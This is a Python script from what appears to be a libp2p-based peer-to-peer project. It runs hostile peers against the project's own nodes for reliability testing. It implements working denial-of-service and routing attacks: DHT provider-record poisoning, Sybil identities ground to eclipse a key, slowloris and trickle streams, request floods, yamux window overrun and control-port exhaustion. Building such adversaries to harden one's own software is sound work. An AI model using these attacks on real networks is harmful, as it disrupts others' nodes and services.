"""Hostile peers for scripts/campaign_adversary.py, each run as its own process:

    python scripts/adversaries.py ATTACK JSON-ARGS

The attack prints one JSON line {"ready": ...} once it is in effect, then {"stats": ...} every
second (what it did so far), until it is killed. Attacks (reliability issue 17, item 4):

stall       identities that the fetcher is told hold the cube (beside the honest provider)
            and that take the stream and answer nothing (reliability finding 2)
poison      identities announce themselves as providers of the target cubes at the victims'
            DHT, with addresses that are dead (a closed port), a black hole (a TCP listener that
            accepts and says nothing), or their own host, whose MIP handler takes the stream and
            answers nothing; re-announced every few seconds (squatting the key's slots)
sybil       identities ground so that their DHT positions are nearer a target key than any
            honest node's, joined to every victim; they take provider records and drop them,
            and answer GET_PROVIDERS with nothing (an eclipse of the key)
slowloris   identities that keep the most MIP streams a peer may hold open and send nothing, or
            the first bytes of a frame; each stream reopened when the victim closes it
trickle     valid requests sent a byte at a time (a byte every --delay s), on many streams
flood       requests pipelined as fast as the streams take them, and new identities connecting
            and hanging up without pause
overrun     streams that send a malformed frame, then write past the yamux window at full speed
            (reliability finding 1)
control     the control port: connections that announce a huge frame and send it, and more idle
            connections than the door admits (reliability finding 3)
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import json
import socket
import struct
import sys
import time
from collections import Counter
from pathlib import Path

import multiaddr
import trio
import varint
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from libp2p.custom_types import TProtocol  # noqa: E402
from libp2p.kad_dht.kad_dht import DHTMode, KadDHT  # noqa: E402
from libp2p.kad_dht.pb.kademlia_pb2 import Message  # noqa: E402
from libp2p.peer.id import ID  # noqa: E402
from libp2p.tools.anyio_service.context import background_trio_service  # noqa: E402

from memnet.net import wire  # noqa: E402
from memnet.net.host import KAD_PROTOCOL, build_host, key_pair, peer_info, use_memnet_kad_protocol  # noqa: E402

LISTEN = [multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]
MIP = TProtocol(wire.PROTOCOL_ID)


def dial_from(source: str) -> None:
    """Make every connection this process opens come from `source` (another loopback address:
    the attacker's own network, as it would be on the internet), and listen there too."""
    global LISTEN
    LISTEN = [multiaddr.Multiaddr(f"/ip4/{source}/tcp/0")]
    plain = trio.open_tcp_stream

    async def open_from(host, port, **kwargs):
        kwargs.setdefault("local_address", source)
        return await plain(host, port, **kwargs)

    trio.open_tcp_stream = open_from
stats: Counter = Counter()


def say(**fields) -> None:
    print(json.dumps(fields, default=str), flush=True)


async def report_forever(extra=lambda: {}) -> None:
    while True:
        say(stats={**stats, **extra()})
        await trio.sleep(1.0)


def dht_position(data: bytes) -> int:
    return int.from_bytes(hashlib.sha256(data).digest(), "big")


def ground_keys(key: bytes, count: int, bits: int) -> list[Ed25519PrivateKey]:
    """Identities whose DHT position (sha256 of the peer id) shares the first `bits` bits with
    the key's: 2**bits tries each, cheap for an attacker."""
    target = dht_position(key) >> (256 - bits)
    found = []
    while len(found) < count:
        private = Ed25519PrivateKey.generate()
        peer = ID.from_pubkey(key_pair(private).public_key)
        if dht_position(peer.to_bytes()) >> (256 - bits) == target:
            found.append(private)
    return found


async def connect(host, addr: str) -> bool:
    try:
        with trio.fail_after(10):
            await host.connect(peer_info(addr))
        return True
    except Exception:
        stats["connect failed"] += 1
        return False


# -- poison --------------------------------------------------------------------------------------

async def announce(host, victim: ID, key: bytes, addrs: list[multiaddr.Multiaddr]) -> None:
    """ADD_PROVIDER naming this host as provider, with addresses of the attacker's choosing."""
    message = Message()
    message.type = Message.MessageType.ADD_PROVIDER
    message.key = key
    provider = message.providerPeers.add()
    provider.id = host.get_id().to_bytes()
    provider.addrs.extend(a.to_bytes() for a in addrs)
    data = message.SerializeToString()
    try:
        with trio.fail_after(10):
            stream = await host.new_stream(victim, [KAD_PROTOCOL])
            await stream.write(varint.encode(len(data)) + data)
            await stream.close()
        stats["records sent"] += 1
    except Exception:
        stats["records refused"] += 1


async def stall(stream) -> None:
    """A 'provider' that takes the stream and never answers."""
    stats["stalled streams"] += 1
    with contextlib.suppress(Exception):
        await trio.sleep(3600)


async def stalling_hosts(stack: contextlib.AsyncExitStack, count: int) -> list:
    """count new identities, listening, whose MIP handler takes a stream and answers nothing."""
    hosts = []
    for _ in range(count):
        host = build_host(Ed25519PrivateKey.generate())
        await stack.enter_async_context(host.run(LISTEN))
        host.set_stream_handler(MIP, stall)
        hosts.append(host)
    return hosts


async def poison(args: dict) -> None:
    use_memnet_kad_protocol()
    dial_from(args.get("source", "127.0.0.1"))
    keys = [bytes.fromhex(k) for k in args["keys"]]
    victims = args["victims"]
    spare = socket.socket()
    spare.bind((args.get("source", "127.0.0.1"), 0))
    dead_port = spare.getsockname()[1]
    spare.close()   # nothing listens there now: a dial is refused at once
    holes: list[trio.SocketStream] = []

    async def black_hole(stream: trio.SocketStream) -> None:
        holes.append(stream)
        stats["black-hole connections"] += 1
        await trio.sleep(3600)

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(functools.partial(trio.serve_tcp, black_hole, 0, host=args.get("source", "127.0.0.1")))
        hole_port = listeners[0].socket.getsockname()[1]
        kinds = ["dead", "black hole", "staller"]
        async with contextlib.AsyncExitStack() as stack:
            hosts, source = [], args.get("source", "127.0.0.1")
            for i, host in enumerate(await stalling_hosts(stack, args["identities"])):
                addrs = {"dead": [multiaddr.Multiaddr(f"/ip4/{source}/tcp/{dead_port}")],
                         "black hole": [multiaddr.Multiaddr(f"/ip4/{source}/tcp/{hole_port}")],
                         "staller": list(host.get_addrs())}[kinds[i % 3]]
                hosts.append((host, addrs))
            infos = [peer_info(v) for v in victims]
            first = True
            while True:
                for host, addrs in hosts:
                    for info in infos:
                        if await connect(host, f"{info.addrs[0]}/p2p/{info.peer_id}"):
                            for key in keys:
                                await announce(host, info.peer_id, key, addrs)
                if first:
                    say(ready=True, identities=len(hosts), kinds=kinds, dead_port=dead_port, hole_port=hole_port)
                    nursery.start_soon(report_forever)
                    first = False
                await trio.sleep(args.get("every", 5.0))


# -- stall ---------------------------------------------------------------------------------------

async def stallers(args: dict) -> None:
    """Identities that will be named as providers beside the honest one, and answer nothing
    (reliability finding 2)."""
    async with contextlib.AsyncExitStack() as stack:
        peers = [{"peer_id": str(host.get_id()), "addrs": [str(a) for a in host.get_addrs()]}
                 for host in await stalling_hosts(stack, args["identities"])]
        say(ready=True, identities=len(peers), peers=peers)
        await report_forever()


# -- sybil ---------------------------------------------------------------------------------------

async def sybil(args: dict) -> None:
    use_memnet_kad_protocol()
    dial_from(args.get("source", "127.0.0.1"))
    key = bytes.fromhex(args["key"])
    t0 = time.perf_counter()
    privates = ground_keys(key, args["identities"], args.get("bits", 10))
    ground_s = time.perf_counter() - t0
    async with contextlib.AsyncExitStack() as stack:
        dhts = []
        for private in privates:
            host = build_host(private)
            await stack.enter_async_context(host.run(LISTEN))
            dht = KadDHT(host, DHTMode.SERVER, enable_random_walk=False)
            dht.provider_store.add_provider = lambda key, provider: stats.update(["records swallowed"])
            dht.provider_store.get_providers = lambda key: []
            await stack.enter_async_context(background_trio_service(dht))
            dhts.append(dht)
        for dht in dhts:   # each joins every victim, and the victims learn it from its queries
            for addr in args["victims"]:
                if await connect(dht.host, addr):
                    info = peer_info(addr)
                    await dht.routing_table.add_peer(info.peer_id)
                    with contextlib.suppress(Exception), trio.move_on_after(10):
                        await dht.peer_routing._query_peer_for_closest(info.peer_id, key)
                        stats["queries sent"] += 1
        for dht in dhts:   # and every other Sybil, so that each answers with the others
            for other in dhts:
                if other is not dht:
                    dht.host.get_peerstore().add_addrs(other.host.get_id(), other.host.get_addrs(), 3600)
                    with contextlib.suppress(Exception):
                        await dht.routing_table.add_peer(other.host.get_id())
        say(ready=True, identities=len(dhts), bits=args.get("bits", 10), ground_s=round(ground_s, 2))
        await report_forever()


# -- streams at the MIP server ---------------------------------------------------------------------

async def hold_streams(args: dict, body) -> None:
    """args["identities"] hosts, each keeping args["streams"] MIP streams to the victim busy with
    body(stream, i); a stream the victim ends is opened again."""
    victim = peer_info(args["victim"])

    async def keep(host, i: int) -> None:
        while True:
            stream = None
            t0 = trio.current_time()
            try:
                with trio.fail_after(10):
                    stream = await host.new_stream(victim.peer_id, [MIP])
                stats["streams opened"] += 1
                await body(stream, i)
                stats["streams ended by us"] += 1
            except Exception as exc:
                stats[f"ended: {type(exc).__name__}"] += 1
                stats["held s (sum)"] += trio.current_time() - t0
            finally:
                if stream is not None:
                    with contextlib.suppress(Exception), trio.move_on_after(1):
                        await stream.reset()
            await trio.sleep(0.05)

    async with trio.open_nursery() as nursery, contextlib.AsyncExitStack() as stack:
        for _ in range(args["identities"]):
            host = build_host(Ed25519PrivateKey.generate())
            await stack.enter_async_context(host.run(LISTEN))
            if await connect(host, args["victim"]):
                for i in range(args["streams"]):
                    nursery.start_soon(keep, host, i)
        await trio.sleep(1.0)
        say(ready=True)
        await report_forever()


async def read_until_closed(stream) -> bytes:
    got = b""
    while True:
        data = await stream.read(65536)
        if not data:
            return got
        got += data


async def slowloris(args: dict) -> None:
    header = wire.encode_frame(wire.get_manifest(1, bytes.fromhex(args["cube"])))[:2]

    async def body(stream, i: int) -> None:
        if i % 2:
            await stream.write(header)   # a frame begun, never finished
        await read_until_closed(stream)  # until the victim gives up on us

    await hold_streams(args, body)


async def trickle(args: dict) -> None:
    request = wire.encode_frame(wire.get_manifest(1, bytes.fromhex(args["cube"])))

    async def body(stream, i: int) -> None:
        for b in range(len(request)):
            await stream.write(request[b:b + 1])
            await trio.sleep(args["delay"])
        answer = await stream.read(65536)
        stats["answered" if answer else "no answer"] += 1

    await hold_streams(args, body)


async def flood(args: dict) -> None:
    cube = bytes.fromhex(args["cube"])
    burst = b"".join(wire.encode_frame(wire.get_manifest(n, cube)) for n in range(1, 201))

    async def body(stream, i: int) -> None:
        decoder = wire.FrameDecoder()
        while True:
            await stream.write(burst)
            stats["requests sent"] += 200
            seen = 0
            while seen < 200:
                data = await stream.read(1 << 20)
                if not data:
                    return
                decoder.receive_data(data)
                while (message := decoder.next_event()) is not None:
                    seen += 1
                    stats["answer: " + (message.code if message.t == "error" else message.t)] += 1

    async def churn() -> None:
        """New identities connecting and hanging up, args["churners"] at a time."""
        async def one() -> None:
            while True:
                host = build_host(Ed25519PrivateKey.generate())
                async with host.run([]):
                    if await connect(host, args["victim"]):
                        stats["connections made"] += 1
                        await trio.sleep(0.5)
        async with trio.open_nursery() as nursery:
            for _ in range(args["churners"]):
                nursery.start_soon(one)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(churn)
        await hold_streams(args, body)


async def overrun(args: dict) -> None:
    async def body(stream, i: int) -> None:
        await stream.write(b"\xff\xff\xff\xff not a frame")
        piece = b"x" * 65536
        while True:
            stream.muxed_stream.send_window = 2**40   # ignore the window the victim gave
            await stream.write(piece)
            stats["bytes written"] += len(piece)

    await hold_streams(args, body)


# -- the control port ------------------------------------------------------------------------------

async def control(args: dict) -> None:
    port = args["port"]

    async def big_frames() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream("127.0.0.1", port)
                async with stream:
                    await stream.send_all(struct.pack(">I", 16 << 20))
                    for _ in range(256):   # 16 MiB, if the door let it in
                        await stream.send_all(b"x" * 65536)
                        stats["control bytes sent"] += 65536
            except Exception:
                stats["control: hung up on"] += 1
            await trio.sleep(0.01)

    async def idle() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream("127.0.0.1", port)
                async with stream:
                    stats["control: idle connections"] += 1
                    await stream.receive_some(1)   # until the door closes it
            except Exception:
                pass
            await trio.sleep(0.01)

    async with trio.open_nursery() as nursery:
        for _ in range(args["big"]):
            nursery.start_soon(big_frames)
        for _ in range(args["idle"]):
            nursery.start_soon(idle)
        await trio.sleep(1.0)
        say(ready=True)
        await report_forever()


ATTACKS = {"poison": poison, "stall": stallers, "sybil": sybil, "slowloris": slowloris, "trickle": trickle, "flood": flood,
           "overrun": overrun, "control": control}


def main(argv: list[str]) -> None:
    if len(argv) != 2 or argv[0] not in ATTACKS:
        raise SystemExit(__doc__)
    trio.run(ATTACKS[argv[0]], json.loads(argv[1]))


if __name__ == "__main__":
    main(sys.argv[1:])
